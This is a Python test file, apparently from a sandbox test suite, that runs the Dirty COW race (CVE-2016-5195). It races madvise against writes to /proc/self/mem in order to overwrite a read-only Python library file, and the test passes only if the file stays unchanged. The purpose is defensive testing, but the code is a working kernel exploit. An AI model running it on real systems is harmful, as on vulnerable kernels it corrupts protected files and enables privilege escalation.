# CVE-2016-5195: a race between /proc/self/mem and madvise, to write into a file that may only be read.
# slow: yes
# expect: ok
# says: ^unchanged$
import ctypes
import hashlib
import mmap
import os
import threading
import time

import json

target = json.__file__
before = hashlib.sha256(open(target, "rb").read()).digest()
descriptor = os.open(target, os.O_RDONLY)
page = mmap.mmap(descriptor, 4096, flags=mmap.MAP_PRIVATE, prot=mmap.PROT_READ)
libc = ctypes.CDLL(None)
libc.mmap.restype = ctypes.c_void_p
libc.mmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int, ctypes.c_int, ctypes.c_int, ctypes.c_long]
address = libc.mmap(None, 4096, 1, 2, descriptor, 0)
until = time.monotonic() + 0.4


def discard():
    while time.monotonic() < until:
        libc.madvise(ctypes.c_void_p(address), 4096, 4)


def write():
    try:
        memory = os.open("/proc/self/mem", os.O_RDWR)
        while time.monotonic() < until:
            os.pwrite(memory, b"import os; print('ESCAPED')\n", address)
    except OSError:
        pass


threads = [threading.Thread(target=action) for action in (discard, write)]
for thread in threads:
    thread.start()
for thread in threads:
    thread.join()
print("unchanged" if hashlib.sha256(open(target, "rb").read()).digest() == before else "ESCAPED: a read-only file changed")
